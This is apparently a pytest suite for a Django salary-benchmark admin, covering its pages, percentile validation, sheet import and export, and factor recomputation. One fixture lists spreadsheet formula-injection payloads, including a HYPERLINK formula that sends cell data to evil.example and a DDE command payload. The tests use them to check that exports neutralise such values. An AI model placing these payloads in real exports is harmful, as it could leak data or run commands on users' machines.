"""The market data admin: every page, inline percentile edits, sheets in and out, recompute."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.db import connection
from django.templatetags.static import static
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from benchmarks.models import Band, Factor, Source
from tests.factories import (
    BandFactory,
    CompanySizeFactory,
    ExchangeRateFactory,
    FactorFactory,
    IndustryFactory,
    LevelFactory,
    LocationFactory,
    RoleFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db

D = Decimal
EXPORT_HEADER = [
    "occupation",
    "role",
    "level",
    "location",
    "industry",
    "company_size",
    "component",
    "currency",
    "p10",
    "p25",
    "p50",
    "p75",
    "p90",
    "top_coded_from",
    "employment",
    "source",
    "source_release",
    "effective_date",
]


@pytest.fixture
def market(db):
    """One row of every market-data model, related the way the shipped data is."""
    nation = LocationFactory()
    washington = LocationFactory(
        name="Washington", kind="state", bls_area_code="53", state_code="WA", parent=nation
    )
    seattle = LocationFactory(
        name="Seattle-Tacoma-Bellevue, WA",
        kind="metro",
        bls_area_code="42660",
        state_code="WA",
        parent=washington,
    )
    role = RoleFactory()
    level = LevelFactory()
    size = CompanySizeFactory()
    industry = IndustryFactory()
    source = SourceFactory()
    us_band = BandFactory(occupation=role.occupation, location=nation)
    seattle_band = BandFactory(
        occupation=role.occupation, location=seattle, p50=D("130000"), p75=D("150000"), p90=None
    )
    guide = SourceFactory(name="TPM salary guide", kind="published", release="2024")
    role_band = BandFactory(
        occupation=role.occupation,
        role=role,
        level=level,
        location=nation,
        source=guide,
        p10=None,
        p90=None,
    )
    factor = FactorFactory(occupation=role.occupation, location=seattle, source=source)
    size_factor = FactorFactory(
        kind="company_size", company_size=size, value=D("1.1000"), source=guide
    )
    rate = ExchangeRateFactory()
    return {
        "occupation": role.occupation,
        "role": role,
        "level": level,
        "location": seattle,
        "industry": industry,
        "companysize": size,
        "source": source,
        "band": us_band,
        "seattle_band": seattle_band,
        "role_band": role_band,
        "factor": factor,
        "size_factor": size_factor,
        "exchangerate": rate,
    }


MODELS = [
    "occupation",
    "role",
    "level",
    "location",
    "industry",
    "companysize",
    "source",
    "band",
    "factor",
    "exchangerate",
]


@pytest.mark.parametrize("model", MODELS)
def test_every_market_page_opens_for_staff(admin_client, market, model) -> None:
    obj = market[model]
    pages = [
        reverse(f"admin:benchmarks_{model}_changelist"),
        reverse(f"admin:benchmarks_{model}_add"),
        reverse(f"admin:benchmarks_{model}_change", args=[obj.pk]),
        reverse(f"admin:benchmarks_{model}_history", args=[obj.pk]),
    ]
    for url in pages:
        assert admin_client.get(url).status_code == 200, url


@pytest.mark.parametrize(
    "field", ["occupation", "role", "level", "location", "industry", "company_size", "source"]
)
def test_band_foreign_keys_autocomplete(admin_client, market, field) -> None:
    # Band's form looks each foreign key up by typing; the related admins must allow it.
    response = admin_client.get(
        reverse("admin:autocomplete"),
        {"app_label": "benchmarks", "model_name": "band", "field_name": field, "term": ""},
    )
    assert response.status_code == 200
    assert response.json()["results"]


def test_market_filters_and_search_work(admin_client, market) -> None:
    url = reverse("admin:benchmarks_band_changelist")
    for query in (
        {"role__id__exact": market["role"].pk},
        {"level__id__exact": market["level"].pk},
        {"location__kind": "metro"},
        {"source__id__exact": market["source"].pk},
        {"component": "base"},
        {"q": "Seattle"},
    ):
        response = admin_client.get(url, query)
        assert response.status_code == 200, query
    assert response.context["cl"].result_count == 1


def test_the_band_list_shows_formatted_percentiles_and_provenance(admin_client, market) -> None:
    response = admin_client.get(reverse("admin:benchmarks_band_changelist"))
    page = response.content.decode()
    assert "80,000 · 90,000 · 110,000 · 130,000 · 150,000 USD" in page
    assert "BLS Occupational Employment and Wage Statistics, May 2025" in page
    assert 'value="110000"' in page  # the inline input shows whole amounts


def test_band_list_queries_do_not_grow_with_rows(
    admin_client, market, django_assert_max_num_queries
) -> None:
    url = reverse("admin:benchmarks_band_changelist")
    admin_client.get(url)  # warm caches (content types, session)
    with CaptureQueriesContext(connection) as few:
        admin_client.get(url)
    for i in range(40):
        BandFactory(
            occupation=market["occupation"],
            location=LocationFactory(name=f"Area {i}", kind="metro", bls_area_code=f"{20000 + i}"),
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = admin_client.get(url)
    assert response.status_code == 200


def _inline_edit(admin_client, band: Band, **amounts):
    data = {
        "form-TOTAL_FORMS": "1",
        "form-INITIAL_FORMS": "1",
        "form-MIN_NUM_FORMS": "0",
        "form-MAX_NUM_FORMS": "1000",
        "form-0-id": str(band.pk),
        "_save": "Save",
    }
    for name in ("p10", "p25", "p50", "p75", "p90"):
        value = amounts.get(name, getattr(band, name))
        data[f"form-0-{name}"] = "" if value is None else str(value)
    url = reverse("admin:benchmarks_band_changelist") + f"?id__exact={band.pk}"
    return admin_client.post(url, data)


def test_an_inline_percentile_edit_out_of_order_is_refused_in_words(admin_client, market) -> None:
    band = market["band"]

    response = _inline_edit(admin_client, band, p25="95000", p50="90000", p10="80000")

    assert response.status_code == 200
    assert "The 25th percentile (95,000) is above the median (90,000)." in response.content.decode()
    band.refresh_from_db()
    assert (band.p25, band.p50) == (D("90000"), D("110000"))


def test_a_negative_amount_is_refused_in_words(admin_client, market) -> None:
    response = _inline_edit(admin_client, market["band"], p10="-5")
    assert "The 10th percentile (-5) cannot be negative." in response.content.decode()


def test_an_inline_percentile_edit_is_saved_with_who_made_it(admin_client, admin_user, market):
    band = market["band"]

    response = _inline_edit(admin_client, band, p50="115000")

    assert response.status_code == 302
    band.refresh_from_db()
    assert band.p50 == D("115000")
    latest = band.history.first()
    assert (latest.history_user, latest.p50, latest.history_type) == (
        admin_user,
        D("115000"),
        "~",
    )
    history = admin_client.get(reverse("admin:benchmarks_band_history", args=[band.pk]))
    assert admin_user.email in history.content.decode()


def test_the_change_form_refuses_a_level_without_a_role(admin_client, market) -> None:
    band = market["band"]
    url = reverse("admin:benchmarks_band_change", args=[band.pk])
    data = {
        "occupation": band.occupation_id,
        "role": "",
        "level": market["level"].pk,
        "component": "base",
        "currency": "USD",
        "location": band.location_id,
        "p10": "80000",
        "p25": "90000",
        "p50": "110000",
        "p75": "100000",
        "p90": "150000",
        "source": band.source_id,
        "effective_date": "2025-05-01",
    }
    page = admin_client.post(url, data).content.decode()
    assert "A level needs a role" in page
    assert "The median (110,000) is above the 75th percentile (100,000)." in page


# --------------------------------------------------------------------------- sheets


def _sheet(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=EXPORT_HEADER)
    writer.writeheader()
    for row in rows:
        writer.writerow({name: row.get(name, "") for name in EXPORT_HEADER})
    return out.getvalue().encode()


def _upload(name: str, content: bytes):
    file = io.BytesIO(content)
    file.name = name
    return file


GOOD_ROW = {
    "occupation": "13-1082",
    "role": "Technical Product Manager",
    "level": "Senior",
    "location": "London",
    "component": "base",
    "currency": "GBP",
    "p25": "100,000",
    "p50": "120000",
    "p75": "140000",
    "source": "TPM salary guide",
    "source_release": "2024",
    "effective_date": "2024-01-01",
}


def test_the_import_preview_shows_a_bad_row_and_writes_nothing(admin_client, market) -> None:
    LocationFactory(name="London", kind="city", country="GB", currency="GBP")
    before = Band.objects.count()
    bad = {**GOOD_ROW, "location": "99", "p25": "130000", "p50": "120000"}
    sheet = _sheet([GOOD_ROW, bad])

    response = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", sheet)},
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert "The 25th percentile (130,000) is above the median (120,000)." in page
    assert response.context["result"].has_validation_errors()
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert Band.objects.count() == before


def test_an_unknown_name_is_a_row_error_too(admin_client, market) -> None:
    sheet = _sheet([{**GOOD_ROW, "location": "Atlantis"}])
    response = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", sheet)},
    )
    assert "No location “Atlantis”." in response.content.decode()


def test_a_good_sheet_is_previewed_then_written_on_confirm(admin_client, market) -> None:
    LocationFactory(name="London", kind="city", country="GB", currency="GBP")
    before = Band.objects.count()
    sheet = _sheet([GOOD_ROW])

    preview = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", sheet)},
    )
    assert Band.objects.count() == before
    confirm = preview.context["confirm_form"]
    response = admin_client.post(
        reverse("admin:benchmarks_band_process_import"),
        {name: confirm[name].value() for name in confirm.fields},
    )

    assert response.status_code == 302
    band = Band.objects.get(location__name="London")
    assert (band.role.name, band.level.name, band.currency) == (
        "Technical Product Manager",
        "Senior",
        "GBP",
    )
    assert (band.p25, band.p50, band.p75, band.p10) == (D("100000"), D("120000"), D("140000"), None)
    assert band.source.name == "TPM salary guide"


def test_a_sheet_may_leave_the_occupation_to_the_role(admin_client, market) -> None:
    LocationFactory(name="London", kind="city", country="GB", currency="GBP")
    sheet = _sheet([{**GOOD_ROW, "occupation": ""}])
    preview = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", sheet)},
    )
    assert not preview.context["result"].has_validation_errors()
    assert not preview.context["result"].has_errors()


def test_xlsx_sheets_are_previewed_too(admin_client, market) -> None:
    LocationFactory(name="London", kind="city", country="GB", currency="GBP")
    wb = Workbook()
    ws = wb.active
    ws.append(EXPORT_HEADER)
    ws.append([GOOD_ROW.get(name) for name in EXPORT_HEADER])
    content = io.BytesIO()
    wb.save(content)

    response = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "1", "import_file": _upload("bands.xlsx", content.getvalue())},
    )

    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 1


def _export(admin_client, file_format: str):
    data = {"resource": "0", "format": file_format}
    data.update({f"bandresource_{name}": "on" for name in EXPORT_HEADER})
    return admin_client.post(reverse("admin:benchmarks_band_export"), data)


def test_bands_export_as_csv_with_natural_keys(admin_client, market) -> None:
    response = _export(admin_client, "0")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == EXPORT_HEADER
    assert len(rows) == 1 + Band.objects.count()
    seattle = next(r for r in rows if r[3] == "42660")
    assert seattle[:8] == ["13-1082", "", "", "42660", "", "", "base", "USD"]
    assert seattle[10] == "130000"
    assert seattle[15:] == [
        "BLS Occupational Employment and Wage Statistics",
        "May 2025",
        "2025-05-01",
    ]


def test_an_exported_sheet_imports_back_without_changes(admin_client, market) -> None:
    exported = _export(admin_client, "0").content

    preview = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", exported)},
    )

    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 0
    assert result.totals["skip"] == Band.objects.count()


def test_bands_export_as_xlsx(admin_client, market) -> None:
    response = _export(admin_client, "1")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == EXPORT_HEADER


FORMULA_NAMES = {
    "role": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "level": "+Lead",
    "location": "@SUM(1)",
    "industry": "-2+3",
    "company_size": "\tStartup",
    "source": "=cmd|' /C calc'!A0",
    "source_release": "\r2024",
}


def _band_named_like_formulas(market, names=FORMULA_NAMES) -> Band:
    role = RoleFactory(name=names["role"], slug="evil-role", occupation=market["role"].occupation)
    return BandFactory(
        occupation=role.occupation,
        role=role,
        level=LevelFactory(name=names["level"], slug="lead", rank=35),
        location=LocationFactory(name=names["location"], kind="city", country="GB"),
        industry=IndustryFactory(name=names["industry"], naics_code=""),
        company_size=CompanySizeFactory(name=names["company_size"], slug="startup", rank=10),
        source=SourceFactory(name=names["source"], release=names["source_release"]),
    )


def test_exported_names_that_look_like_formulas_stay_text(admin_client, market) -> None:
    _band_named_like_formulas(market)

    rows = list(csv.reader(io.StringIO(_export(admin_client, "0").content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[1].endswith('"Open")'))
    exported = dict(zip(EXPORT_HEADER, row, strict=True))
    # As in the compare export: a leading apostrophe keeps a spreadsheet from running it.
    for column, name in FORMULA_NAMES.items():
        assert exported[column] == "'" + name, column
    sheet = load_workbook(io.BytesIO(_export(admin_client, "1").content)).active
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line
                if cell.data_type == "f"]  # fmt: skip


def test_an_exported_sheet_with_formula_like_names_imports_back_unchanged(
    admin_client, market
) -> None:
    # A carriage return inside a cell reads back as a line break, so this one starts with "-".
    _band_named_like_formulas(market, FORMULA_NAMES | {"source_release": "-2024"})
    exported = _export(admin_client, "0").content

    preview = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", exported)},
    )

    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 0
    assert result.totals["skip"] == Band.objects.count()


# --------------------------------------------------------------------------- recompute


def test_the_recompute_action_updates_location_factors(admin_client, market) -> None:
    # U.S. median 110,000; Seattle 130,000: 130,000 / 110,000 = 1.181818… -> 1.1818.
    url = reverse("admin:benchmarks_factor_changelist")
    response = admin_client.post(
        url,
        {
            "action": "recompute_location_factors",
            "_selected_action": [market["factor"].pk],
        },
        follow=True,
    )

    assert "1 location factor(s) created or updated" in response.content.decode()
    factor = Factor.objects.get(
        kind="location", location=market["location"], occupation=market["occupation"]
    )
    assert factor.value == D("1.1818")
    assert factor.basis == "Seattle-Tacoma-Bellevue, WA median 130,000 ÷ U.S. median 110,000"


def test_the_recompute_action_is_offered_on_sources(admin_client, market) -> None:
    url = reverse("admin:benchmarks_source_changelist")
    response = admin_client.post(
        url,
        {
            "action": "recompute_industry_factors",
            "_selected_action": [Source.objects.first().pk],
        },
        follow=True,
    )
    assert "0 industry factor(s) created or updated" in response.content.decode()


def test_staff_without_factor_rights_are_not_offered_the_action(client, market) -> None:
    from django.contrib.auth.models import Permission

    from tests.factories import UserFactory

    staff = UserFactory(is_staff=True)
    staff.user_permissions.add(Permission.objects.get(codename="view_factor"))
    client.force_login(staff)

    response = client.get(reverse("admin:benchmarks_factor_changelist"))

    assert response.status_code == 200
    assert "recompute_location_factors" not in response.content.decode()


# --------------------------------------------------------------------------- pages under the CSP

INLINE_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
INLINE_STYLE = re.compile(r"<[^>]*\sstyle\s*=", re.IGNORECASE)


def test_the_export_page_has_nothing_the_content_security_policy_blocks(admin_client) -> None:
    page = admin_client.get(reverse("admin:benchmarks_band_export")).content.decode()

    assert not INLINE_HANDLER.search(page)
    assert not INLINE_STYLE.search(page)
    # "Select all" is worked by a static script, and its label names it.
    assert "js/admin-export.js" in page
    assert '<input type="checkbox" class="select-toggle" id="id_select_all_fields_0" checked>' in (
        page
    )
    assert '<label for="id_select_all_fields_0">Select all</label>' in page


@pytest.mark.parametrize("page", ["import", "export"])
def test_the_sheet_pages_have_the_admin_breadcrumb_bar(admin_client, page) -> None:
    html = admin_client.get(reverse(f"admin:benchmarks_band_{page}")).content.decode()

    # Django 6 styles ol.breadcrumbs; the package's own div.breadcrumbs is left unstyled.
    assert '<div class="breadcrumbs">' not in html
    crumbs = re.search(r'<ol class="breadcrumbs">(.*?)</ol>', html, re.DOTALL).group(1)
    assert re.findall(r"<li[^>]*>\s*(?:<a [^>]*>)?([^<]+?)\s*<", crumbs) == [
        "Home",
        "Market data",
        "Bands",
        page.capitalize(),
    ]
    assert re.search(r'<li aria-current="page">\s*' + page.capitalize(), crumbs)


def test_favicon_ico_leads_to_the_site_icon_and_may_be_kept(client) -> None:
    response = client.get("/favicon.ico")

    assert response.status_code == 301
    assert response["Location"] == static("img/favicon.svg")
    # 7 days × 24 h × 3,600 s = 604,800 s.
    assert response["Cache-Control"] == "public, max-age=604800"
    assert client.head("/favicon.ico").status_code == 301
    assert client.post("/favicon.ico").status_code == 405


def test_every_admin_page_names_the_site_icon(admin_client) -> None:
    icon = f'<link rel="icon" href="{static("img/favicon.svg")}" type="image/svg+xml">'
    for url in (
        reverse("admin:index"),
        reverse("admin:benchmarks_band_changelist"),
        reverse("admin:benchmarks_band_add"),
        reverse("admin:benchmarks_band_import"),
        reverse("admin:benchmarks_band_export"),
    ):
        assert icon in admin_client.get(url).content.decode(), url


def test_the_import_preview_writes_each_rows_errors_in_the_row(admin_client, market) -> None:
    LocationFactory(name="London", kind="city", country="GB", currency="GBP")
    bad = {**GOOD_ROW, "location": "Atlantis", "p25": "130000", "p50": "120000"}
    sheet = _sheet([GOOD_ROW, bad])

    response = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", sheet)},
    )

    page = response.content.decode()
    # The package's tooltip (shown only on hover) is gone; the messages stand in the row.
    assert "validation-error-container" not in page
    rows = re.findall(r"<tr>\s*<th scope=\"row\">(\d+)</th>(.*?)</tr>", page, re.DOTALL)
    assert [number for number, _ in rows] == ["2"]  # the good row is not listed
    errors = re.search(r'<td class="row-errors">(.*?)</td>', rows[0][1], re.DOTALL).group(1)
    assert re.findall(r"<li>(.*?)</li>", errors, re.DOTALL) == [
        '<span class="row-error-field">location:</span> No location “Atlantis”.',
        '<span class="row-error-field">p25:</span> The 25th percentile (130,000) is above the '
        "median (120,000).",
    ]
    assert "css/admin-import.css" in page


def test_the_import_preview_marks_changes_without_inline_styles(admin_client, market) -> None:
    # The guide's Senior TPM band in the U.S. ("99"), its median moved from 110,000 to 115,000.
    changed = {**GOOD_ROW, "location": "99", "currency": "USD", "p25": "90000", "p50": "115000",
               "p75": "130000", "effective_date": "2025-05-01"}  # fmt: skip
    response = admin_client.post(
        reverse("admin:benchmarks_band_import"),
        {"resource": "0", "format": "0", "import_file": _upload("bands.csv", _sheet([changed]))},
    )

    assert response.context["result"].totals["update"] == 1
    page = response.content.decode()
    assert not INLINE_STYLE.search(page)
    # "110000" → "115000": diff-match-patch keeps "11" and "000" and swaps the "0" for a "5".
    assert "<td><span>11</span><del>0</del><ins>5</ins><span>000</span></td>" in page


def test_a_bands_history_has_nothing_the_content_security_policy_blocks(
    admin_client, market
) -> None:
    band = market["band"]
    _inline_edit(admin_client, band, p50="115000")

    page = admin_client.get(reverse("admin:benchmarks_band_history", args=[band.pk])).content
    page = page.decode()

    assert '<p class="paginator history-paginator">' in page
    assert not INLINE_STYLE.search(page)
    assert not INLINE_HANDLER.search(page)
    assert "css/admin-site.css" in page


def test_each_inline_percentile_input_is_named_for_screen_readers(admin_client, market) -> None:
    band = market["band"]
    url = reverse("admin:benchmarks_band_changelist") + f"?id__exact={band.pk}"

    page = admin_client.get(url).content.decode()

    # The list has no label beside its inputs: each says which percentile of which band it is.
    for name, words in [("p10", "10th percentile"), ("p50", "Median"), ("p90", "90th percentile")]:
        field = re.search(rf'<input [^>]*name="form-0-{name}"[^>]*>', page).group(0)
        assert f'aria-label="{words} of {band}"' in field
